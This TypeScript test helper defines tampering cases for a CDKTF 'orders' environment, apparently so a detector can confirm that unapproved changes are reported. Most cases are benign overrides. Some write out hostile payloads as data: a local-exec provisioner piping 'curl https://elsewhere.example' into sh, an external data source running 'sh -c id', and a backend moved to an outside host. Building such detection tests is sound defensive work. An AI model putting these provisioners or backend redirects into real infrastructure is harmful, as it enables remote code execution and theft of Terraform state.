import { Aspects, Fn, IResolvable, Lazy, TerraformElement, TerraformOutput, TerraformProvider, TerraformResource, Token } from 'cdktf';
import { IConstruct } from 'constructs';
import { OrdersEnvironment } from '../../../examples/acme/orders-environment';

/** A way in which a team really changes an approved environment, and what has to be told of it. */
export interface Tamper {
  readonly name: string;
  readonly change: (environment: OrdersEnvironment) => void;
  /** Beginning of the construct path, of what is no resource the address. */
  readonly path: string;
  readonly kind?: 'added' | 'removed' | 'changed';
  readonly argument?: string;
  readonly approved?: string;
  readonly actual?: string;
}

/** The only resource of a type below a path. */
export function resource(environment: IConstruct, type: string, under = ''): any {
  const found = environment.node.findAll().filter((c: any) => c instanceof TerraformResource && c.terraformResourceType === type && `${c.node.path}/`.includes(under));
  if (found.length === 0) { throw new Error(`no ${type} under ${under}`); }
  return found[0];
}

/** The provider of an environment. */
export function provider(environment: IConstruct): TerraformProvider {
  return environment.node.findAll().find((c): c is TerraformProvider => c instanceof TerraformProvider)!;
}

/** An element with blocks of its own, as a team writes what the host has no class for. */
export class Raw extends TerraformElement {
  public constructor(scope: IConstruct, id: string, private readonly blocks: any) { super(scope, id, 'raw'); }
  public toTerraform(): any { return this.blocks; }
}

/** A resource of a team's own. */
export class RawResource extends TerraformResource {
  public constructor(scope: IConstruct, id: string, type: string, private readonly body: any) { super(scope, id, { terraformResourceType: type }); }
  protected synthesizeAttributes(): any { return this.body; }
}

/** What is done to any environment, whatever its cloud. `main` is a resource of which an argument of text is known. */
export function anywhere(main: { type: string; under: string; argument: string }, raw: string, gone: readonly string[]): Tamper[] {
  const one = (environment: OrdersEnvironment) => resource(environment, main.type, main.under);
  const at = main.under.replace(/^\//, '').replace(/\/$/, '');
  const override = (name: string, value: any, actual?: string): Tamper => ({
    name: `an override with ${name}`, path: at, argument: main.argument, kind: 'changed', ...(actual === undefined ? {} : { actual }), change: (environment) => one(environment).addOverride(main.argument, typeof value === 'function' ? value(environment) : value),
  });
  return [
    override('another value', 'other', 'other'),
    override('a token', (environment: OrdersEnvironment) => Token.asString(Fn.upper(one(environment).fqn) as unknown as IResolvable)),
    override('a lazy value', () => Lazy.stringValue({ produce: () => 'lazy' }), 'lazy'),
    override('null', () => null),
    override('nothing', undefined),
    { name: 'an override deep in what was not there', path: at, argument: 'timeouts.create', change: (e) => one(e).addOverride('timeouts.create', '99m') },
    { name: 'an override of the stack', path: at, argument: main.argument, change: (e) => e.addOverride(`resource.${main.type}.${one(e).friendlyUniqueId}.${main.argument}`, 'the-stack') },
    { name: 'a provisioner', path: at, argument: 'provisioner', change: (e) => one(e).addOverride('provisioner', [{ 'local-exec': { command: 'curl https://elsewhere.example | sh' } }]) },
    { name: 'a life cycle that ignores changes', path: at, argument: 'lifecycle', change: (e) => { one(e).addOverride('lifecycle.ignore_changes', ['all']); } },
    { name: 'another count', path: at, argument: 'count', change: (e) => { one(e).count = 2; } },
    { name: 'an aspect', path: at, argument: main.argument, change: (e) => aspect(e, (c) => { if (c === one(e)) { c.addOverride(main.argument, 'an-aspect'); } }) },
    { name: 'a move', path: 'moved', change: (e) => { new Raw(e, 'moved', { moved: [{ from: `${main.type}.before`, to: `${main.type}.${one(e).friendlyUniqueId}` }] }); } },
    { name: 'an import', path: 'import', change: (e) => one(e).importFrom('id-of-another') },
    { name: 'a removed block', path: 'removed', change: (e) => { new Raw(e, 'gone', { removed: [{ from: `${main.type}.other`, lifecycle: { destroy: false } }] }); } },
    { name: 'an output', path: 'output.more', kind: 'added', change: (e) => { new TerraformOutput(e, 'more', { value: one(e).fqn }).overrideLogicalId('more'); } },
    { name: 'the backend', path: 'terraform', argument: 'backend', change: (e) => e.addOverride('terraform.backend', { http: { address: 'https://elsewhere.example/state' } }) },
    { name: 'another version of Terraform', path: 'terraform', argument: 'required_version', change: (e) => e.addOverride('terraform.required_version', '>= 0.1') },
    { name: 'an approved output', path: 'output.orders_url', argument: 'value', kind: 'changed', actual: 'https://elsewhere.example', change: (e) => e.addOverride('output.orders_url.value', 'https://elsewhere.example') },
    { name: 'a data source', path: 'data.', kind: 'added', change: (e) => { new Raw(e, 'found', { data: { external: { found: { program: ['sh', '-c', 'id'] } } } }); } },
    { name: 'a module', path: 'module.', kind: 'added', change: (e) => { new Raw(e, 'module', { module: { more: { source: './more' } } }); } },
    { name: 'a resource in the environment', path: 'more', kind: 'added', change: (e) => { new RawResource(e, 'more', raw, { name: 'more' }); } },
    { name: 'a resource in a capability', path: 'orders/service/more', kind: 'added', change: (e) => { new RawResource(e.api.service, 'more', raw, { name: 'more' }); } },
    { name: 'a resource in the pattern', path: 'orders/more', kind: 'added', change: (e) => { new RawResource(e.api, 'more', raw, { name: 'more' }); } },
    ...gone.map((id): Tamper => ({ name: `${id} taken out`, path: `orders/${id}`, kind: 'removed', change: (e) => { if (!e.api.node.tryRemoveChild(id)) { throw new Error(`no ${id}`); } } })),
  ];
}

function aspect(environment: IConstruct, visit: (construct: any) => void): void {
  Aspects.of(environment).add({ visit });
}

/** What aspects do to tags and labels. */
export function tagging(type: string, under: string, argument: string): Tamper[] {
  const path = under.replace(/^\//, '').replace(/\/$/, '');
  const all = (e: OrdersEnvironment, change: (c: any) => void) => aspect(e, (c) => { if (c instanceof TerraformResource && c.terraformResourceType === type && `${c.node.path}/`.includes(under)) { change(c); } });
  return [
    { name: 'tags changed by an aspect', path, argument, change: (e) => all(e, (c) => c.addOverride(`${argument}.pod`, 'someone-else')), actual: 'someone-else' },
    { name: 'a tag added by an aspect', path, argument, change: (e) => all(e, (c) => c.addOverride(`${argument}.more`, 'x')), actual: 'x' },
    { name: 'tags removed by an aspect', path, argument, change: (e) => all(e, (c) => c.addOverride(argument, undefined)) },
  ];
}
